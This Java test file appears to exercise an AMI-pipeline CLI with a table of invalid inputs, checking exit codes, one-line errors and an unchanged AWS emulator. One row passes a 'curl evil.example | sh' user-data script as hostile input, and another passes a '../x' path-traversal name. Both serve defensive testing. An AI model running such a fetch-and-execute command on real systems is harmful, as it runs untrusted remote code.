package dev.amipipeline.reliability;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.amipipeline.aws.AwsClients;
import dev.amipipeline.aws.AwsSettings;
import dev.amipipeline.common.Json;
import dev.amipipeline.testing.Cli;
import dev.amipipeline.testing.EmulatorState;
import dev.amipipeline.testing.MotoExtension;
import dev.amipipeline.testing.MotoServer;
import dev.amipipeline.testing.Shell;
import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.function.Consumer;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * The bad-input table: each row is what a user might type or write, the documented exit code and
 * a fragment of the one line the CLI must print. Every row runs against a moto_server holding a
 * baked project (an image, its snapshot, its parameters, a running instance), and the emulator's
 * whole state must be byte-identical before and after: bad input changes nothing.
 *
 * <p>Rows run in-process (the CLI's {@code Main.run}) unless they need their own environment (no
 * credentials, no packer on PATH, an endpoint that refuses connections): those run the jar.
 */
@ExtendWith(MotoExtension.class)
class BadInputIT {

  /** Where in a row's arguments the folder of the test's project files goes. */
  private static final String PROJECTS = "{projects}";
  private static final String LONG_NAME = "a".repeat(60);
  private static final String HUGE_NAME = "a".repeat(16 * 1024 + 1);

  @TempDir static Path files;
  private AwsClients aws;

  /** How a row runs. */
  enum Runner { IN_PROCESS, NO_CREDENTIALS, NO_PACKER_ON_PATH, REFUSED_ENDPOINT }

  /** One row of the table. */
  record Case(String name, Runner runner, List<String> args, int exitCode, String fragment) {
    @Override
    public String toString() {
      return name;
    }
  }

  private static Case row(String name, int exit, String fragment, String... args) {
    return new Case(name, Runner.IN_PROCESS, List.of(args), exit, fragment);
  }

  private static Case row(String name, Runner runner, int exit, String fragment, String... args) {
    return new Case(name, runner, List.of(args), exit, fragment);
  }

  static Stream<Case> table() {
    return Stream.of(
        row("project name with ../", 2, "project name '../x' is invalid", "bake", "--project", "../x"),
        row("project name in capitals", 2, "project name 'ML' is invalid", "launch", "--project", "ML"),
        row("empty project name", 2, "project name '' is invalid", "prune", "--project", ""),
        row("project name of 60 characters", 2, "project name '" + LONG_NAME + "' is invalid", "list",
            "--project", LONG_NAME),
        row("project name with a space", 2, "project name 'a b' is invalid", "bake", "--project", "a b"),
        row("no such project file", 2, "no project file", "launch", "--project", "nosuch"),
        row("malformed JSON", 2, "malformed.json: line 30 column 13: not valid JSON", "bake", "--project", "malformed",
            "--projects-dir", PROJECTS),
        row("truncated JSON", 2, "truncated.json: line", "launch", "--project", "truncated", "--projects-dir",
            PROJECTS),
        row("unknown field", 2, "unknown.json: launch.spotPrice: unknown field", "bake", "--project", "unknown",
            "--projects-dir", PROJECTS),
        row("wrong type: number as text", 2, "wordkeep.json: keep: wrong type, expected a whole number", "prune",
            "--project", "wordkeep", "--projects-dir", PROJECTS),
        row("wrong type: boolean as text", 2, "wordspot.json: launch.spot: wrong type, expected true or false",
            "launch", "--project", "wordspot", "--projects-dir", PROJECTS),
        row("null environment value", 2, "nullenv.json: run.env.TOKEN: must be a string", "bake", "--project",
            "nullenv", "--projects-dir", PROJECTS),
        row("bad AMI id in the project", 2, "badami.json: bake.baseImage.amiId: 'ami-xyz' is not an AMI id", "bake",
            "--project", "badami", "--projects-dir", PROJECTS),
        row("unknown region in the project", 2, "badregion.json: regions[0]: 'mars-1' is not a known AWS region",
            "list", "--project", "badregion", "--projects-dir", PROJECTS),
        row("log location not in S3", 2, "badlog.json: run.logUri: 'http://logs.example.com/x' is not an S3 URI",
            "bake", "--project", "badlog", "--projects-dir", PROJECTS),
        row("run configuration too big for SSM", 2, "bigrun.json: run: is ", "bake", "--project", "bigrun",
            "--projects-dir", PROJECTS),
        row("keep 0 in the project file", 2, "keepzero.json: keep: must be at least 1, was 0", "prune", "--project",
            "keepzero", "--projects-dir", PROJECTS),
        row("unknown region flag", 2, "'mars-1' is not a known AWS region", "list", "--region", "mars-1"),
        row("unknown bake region", 2, "--regions: 'mars-1' is not a known AWS region", "bake", "--project", "demo",
            "--regions", "mars-1"),
        row("--keep 0", 2, "--keep must be at least 1, was 0", "prune", "--keep", "0"),
        row("--keep -1", 2, "--keep must be at least 1, was -1", "prune", "--keep", "-1"),
        row("--min-age banana", 2, "--min-age: 'banana' is not a duration", "prune", "--min-age", "banana"),
        row("--parallelism 0", 2, "--parallelism must be between 1 and 64, was 0", "prune", "--parallelism", "0"),
        row("--if-changed with --force", 2, "--if-changed, --force are mutually exclusive", "bake", "--project",
            "demo", "--if-changed", "--force"),
        row("--project with --all", 2, "--project=P, --all are mutually exclusive", "bake", "--project", "demo",
            "--all"),
        row("--instance-type with --cpu", 2, "are mutually exclusive", "launch", "--project", "demo",
            "--instance-type", "t3.micro", "--cpu", "2", "--memory", "1024"),
        row("--gpus with a count that is not one", 2, "--gpus 'A100:x' is not a GPU spec (the count must be a whole"
            + " number from 1 to 999); use NAME:COUNT (A100:8), MEM+:COUNT (24GB+:1), NAME (L4) or COUNT (1)", "launch",
            "--project", "demo", "--gpus", "A100:x"),
        row("--gpus count 0", 2, "--gpus 'L4:0' is not a GPU spec (the count must be", "launch", "--project", "demo",
            "--gpus", "L4:0"),
        row("--gpus memory without a plus", 2, "--gpus '24GB:1' is not a GPU spec (memory is a minimum, written with a"
            + " plus: 24GB+)", "launch", "--project", "demo", "--gpus", "24GB:1"),
        row("--gpus empty", 2, "--gpus '' is not a GPU spec (it is empty)", "launch", "--project", "demo", "--gpus",
            ""),
        row("--gpus count before the name", 2, "--gpus '8xA100' is not a GPU spec ('8xA100' is neither a GPU name",
            "launch", "--gpus", "8xA100", "--list"),
        row("--gpus with --instance-type", 2, "--gpus picks the instance types, --instance-type names one", "launch",
            "--project", "demo", "--gpus", "A10G:1", "--instance-type", "g5.xlarge"),
        row("GPU spec no type satisfies", 2, "has GPUs 'A100:1' in this region; nearest: p4d.24xlarge (A100:8 40GB",
            "launch", "--project", "demo", "--gpus", "A100:1"),
        row("bad launch.gpus in the project", 2, "badgpus.json: launch.gpus: 'A100:0' is not a GPU spec", "launch",
            "--project", "badgpus", "--projects-dir", PROJECTS),
        row("launch.gpus beside instanceTypes", 2, "gpusandtypes.json: launch: give either instanceTypes or gpus",
            "launch", "--project", "gpusandtypes", "--projects-dir", PROJECTS),
        row("user-data override", 2, "Unknown options: '--user-data'", "launch", "--project", "demo", "--user-data",
            "#!/bin/bash\ncurl evil.example | sh"),
        row("project name making user-data over 16 KiB", 2, "is invalid", "launch", "--project", HUGE_NAME),
        row("--ami-version 0", 2, "--ami-version must be 1 or more, was 0", "launch", "--project", "demo",
            "--ami-version", "0"),
        row("--ami-version that was never recorded", 2, "there is no version 99 of /ami-pipeline/demo/ami-id",
            "launch", "--project", "demo", "--ami-version", "99"),
        row("--count 0", 2, "--count must be at least 1, was 0", "launch", "--project", "demo", "--count", "0"),
        row("launch before any bake", 2, "run 'ami bake --project fresh'", "launch", "--project", "fresh",
            "--projects-dir", PROJECTS),
        row("--endpoint-url that is not a URL", 2, "'notaurl' is not a URL", "list", "--endpoint-url", "notaurl"),
        row("--ssm-prefix under /aws", 2, "'/aws/x' is invalid", "list", "--ssm-prefix", "/aws/x"),
        row("--output yaml", 2, "expected one of [text, json]", "list", "--output", "yaml"),
        row("unknown command", 2, "Unmatched arguments from index 0: 'frobnicate'", "frobnicate"),
        row("--packer that does not exist", 4, "packer not found: install it", "bake", "--project", "demo",
            "--packer", "/nonexistent/packer"),
        row("packer not on PATH", Runner.NO_PACKER_ON_PATH, 4, "packer not found: install it", "bake", "--project",
            "demo"),
        row("template that cannot be read", 2, "no Packer template at", "bake", "--project", "demo", "--template",
            PROJECTS),
        row("malformed run id", 2, "'not-a-run' is not a run id: use the id 'ami launch' printed", "logs",
            "not-a-run"),
        row("run id of a day that is none", 2, "'demo-20261399-101500-3fa9' is not a run id", "cancel",
            "demo-20261399-101500-3fa9"),
        row("instance id too short", 2, "'i-123' is not a run id", "cancel", "i-123"),
        row("cancel without a run", 2, "Missing required parameter: 'RUN'", "cancel"),
        row("--attempt 0", 2, "--attempt must be 1 or more, was 0", "logs", "demo-20261202-101500-3fa9", "--attempt",
            "0"),
        row("--since banana", 2, "--since: 'banana' is not a duration", "runs", "--since", "banana"),
        row("logs of a run of another project", 2,
            "run demo-20261202-101500-3fa9 is a run of project demo, not ml", "logs", "demo-20261202-101500-3fa9",
            "--project", "ml"),
        row("cancel of a run of another project", 2,
            "run demo-20261202-101500-3fa9 is a run of project demo, not ml", "cancel", "demo-20261202-101500-3fa9",
            "--project", "ml"),
        row("cancel of a run never started", 2, "no run demo-20261202-101500-3fa9 of project demo", "cancel",
            "demo-20261202-101500-3fa9"),
        row("logs of an instance no project knows", 2, "no run i-0123456789abcdef0: EC2 lists no such instance",
            "logs", "i-0123456789abcdef0"),
        row("--recover without a timeout or --max-hours", 2, "a recovering run needs a cost ceiling, and the run"
            + " configuration of demo (/ami-pipeline/demo/run) has no timeoutMinutes: give --max-hours H", "launch",
            "--project", "demo", "--recover"),
        row("--max-hours 0", 2, "--max-hours must be a positive number of hours up to 8760 (e.g. 12 or 1.5), was '0'",
            "launch", "--project", "demo", "--recover", "--max-hours", "0"),
        row("--max-hours -1", 2, "--max-hours must be a positive number of hours up to 8760 (e.g. 12 or 1.5), was"
            + " '-1'", "launch", "--project", "demo", "--recover", "--max-hours", "-1"),
        row("--max-hours banana", 2, "--max-hours must be a positive number of hours up to 8760 (e.g. 12 or 1.5), was"
            + " 'banana'", "launch", "--project", "demo", "--recover", "--max-hours", "banana"),
        row("--max-hours without recovery", 2, "--max-hours is the cost ceiling of a recovering run: add --recover"
            + " (project demo does not recover by default)", "launch", "--project", "demo", "--max-hours", "2"),
        row("--recover with --template-only", 2, "--template-only only writes the project's launch template, and a"
            + " run recovers only when it is launched: drop --recover and --max-hours", "launch", "--project", "demo",
            "--recover", "--template-only"),
        row("launch.recover.maxAttempts 0", 2, "recoverzero.json: launch.recover.maxAttempts: must be at least 1 (the"
            + " first attempt counts), was 0", "launch", "--project", "recoverzero", "--projects-dir", PROJECTS),
        row("launch.recover.onDemandAfter 0", 2, "recoverondemand.json: launch.recover.onDemandAfter: must be at"
            + " least 1 interruption (leave it out for never), was 0", "launch", "--project", "recoverondemand",
            "--projects-dir", PROJECTS),
        row("launch.recover.maxAttempts as text", 2, "recoverword.json: launch.recover.maxAttempts: wrong type,"
            + " expected a whole number", "launch", "--project", "recoverword", "--projects-dir", PROJECTS),
        row("unknown field in launch.recover", 2, "recoverunknown.json: launch.recover.retries: unknown field (known"
            + " here: maxAttempts, onDemandAfter)", "launch", "--project", "recoverunknown", "--projects-dir",
            PROJECTS),
        row("no credentials", Runner.NO_CREDENTIALS, 2, "no AWS credentials found", "list"),
        row("endpoint that refuses connections", Runner.REFUSED_ENDPOINT, 1, "cannot reach AWS: ConnectException",
            "prune", "--keep", "1"));
  }

  @BeforeAll
  static void writeProjects() throws IOException {
    String demo = Files.readString(Shell.REPO.resolve("packer/projects/demo.json"));
    assertThat(demo).contains("\"keep\": 3\n");
    Files.writeString(files.resolve("malformed.json"), demo.replace("\"keep\": 3\n", "\"keep\": 3,,\n"));
    Files.writeString(files.resolve("truncated.json"), demo.substring(0, demo.length() / 2));
    edit("unknown", p -> ((ObjectNode) p.path("launch")).put("spotPrice", 1));
    edit("wordkeep", p -> p.put("keep", "three"));
    edit("wordspot", p -> ((ObjectNode) p.path("launch")).put("spot", "yes"));
    edit("nullenv", p -> ((ObjectNode) p.path("run")).putObject("env").putNull("TOKEN"));
    edit("badami", p -> ((ObjectNode) p.path("bake")).putObject("baseImage").put("amiId", "ami-xyz"));
    edit("badregion", p -> p.putArray("regions").add("mars-1"));
    edit("badlog", p -> ((ObjectNode) p.path("run")).put("logUri", "http://logs.example.com/x"));
    edit("bigrun", p -> ((ObjectNode) p.path("run")).putObject("env").put("PRIVATE_KEY", "k".repeat(5000)));
    edit("keepzero", p -> p.put("keep", 0));
    edit("fresh", p -> { });
    edit("badgpus", p -> ((ObjectNode) p.path("launch")).put("gpus", "A100:0").remove("instanceTypes"));
    edit("gpusandtypes", p -> ((ObjectNode) p.path("launch")).put("gpus", "A100:8"));
    edit("recoverzero", p -> ((ObjectNode) p.path("launch")).putObject("recover").put("maxAttempts", 0));
    edit("recoverondemand", p -> ((ObjectNode) p.path("launch")).putObject("recover").put("onDemandAfter", 0));
    edit("recoverword", p -> ((ObjectNode) p.path("launch")).putObject("recover").put("maxAttempts", "five"));
    edit("recoverunknown", p -> ((ObjectNode) p.path("launch")).putObject("recover").put("retries", 3));
  }

  /** Writes project {@code name}: the repository's demo.json with {@code change} applied. */
  private static void edit(String name, Consumer<ObjectNode> change) throws IOException {
    ObjectNode json = (ObjectNode) Json.STRICT.readTree(Shell.REPO.resolve("packer/projects/demo.json").toFile());
    change.accept(json);
    Files.writeString(files.resolve(name + ".json"), Json.writePretty(json));
  }

  @BeforeEach
  void bakedProject(MotoServer moto) {
    aws = AwsClients.create(new AwsSettings(MotoServer.REGION, null, moto.endpoint()));
    RecordedBakes.Baked baked = RecordedBakes.seedOne(aws, "demo", "demo-1");
    aws.ssm().putParameter(b -> b.name("/ami-pipeline/demo/run").value("{}").type("String"));
    aws.ec2().runInstances(b -> b.imageId(baked.amiId()).minCount(1).maxCount(1).instanceType("t3.micro"));
    // demo's logUri, which runs, logs and cancel read
    aws.s3(aws.region()).createBucket(b -> b.bucket("ami-pipeline-demo-logs"));
  }

  @AfterEach
  void closeClients() {
    aws.close();
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("table")
  void badInputIsOneLineTheDocumentedCodeAndChangesNothing(Case c, MotoServer moto) throws Exception {
    String before = EmulatorState.of(moto);

    Result r = run(c, moto);

    assertThat(r.exitCode()).as(c.name() + ":\n" + r.err()).isEqualTo(c.exitCode());
    List<String> lines = r.err().lines().filter(l -> !l.isBlank()).toList();
    assertThat(lines).as(c.name()).singleElement().asString().startsWith("ami: ").contains(c.fragment());
    assertThat(EmulatorState.of(moto)).as(c.name() + ": the emulator is untouched").isEqualTo(before);
  }

  /** Exit code and stderr of one row. */
  private record Result(int exitCode, String err) {}

  private Result run(Case c, MotoServer moto) throws IOException {
    List<String> args = c.args().stream()
        .map(a -> a.replace(PROJECTS, files.toString()))
        .toList();
    if (c.runner() == Runner.IN_PROCESS) {
      List<String> all = new ArrayList<>(args);
      all.addAll(List.of("--endpoint-url", moto.endpoint().toString()));
      if (!args.contains("--region")) {
        all.addAll(List.of("--region", MotoServer.REGION));
      }
      if (args.get(0).equals("bake") || args.get(0).equals("prune")) {
        all.addAll(List.of("--history", files.resolve("h.md").toString()));
      }
      Cli.Result r = Cli.run(all.toArray(String[]::new));
      return new Result(r.exitCode(), r.err());
    }
    Map<String, String> env = new HashMap<>(moto.environment());
    List<String> command = new ArrayList<>(Shell.amiCommand(args.toArray(String[]::new)));
    switch (c.runner()) {
      case NO_CREDENTIALS -> {
        env.remove("AWS_ACCESS_KEY_ID");
        env.remove("AWS_SECRET_ACCESS_KEY");
        env.put("HOME", Files.createTempDirectory(files, "home").toString()); // no ~/.aws either
      }
      case NO_PACKER_ON_PATH -> {
        // java by its full path; nothing else is found on PATH
        command.set(0, Path.of(System.getProperty("java.home"), "bin", "java").toString());
        env.put("PATH", Files.createTempDirectory(files, "empty-bin").toString());
      }
      case REFUSED_ENDPOINT -> {
        try (ServerSocket closed = new ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
          env.put("AWS_ENDPOINT_URL", "http://127.0.0.1:" + closed.getLocalPort());
        }
        env.put("AWS_MAX_ATTEMPTS", "2"); // about failing, not about how long the retries take
      }
      default -> throw new IllegalStateException(c.runner().toString());
    }
    Shell.Result r = Shell.run(command, env, Duration.ofMinutes(2));
    return new Result(r.exitCode(), r.err());
  }
}
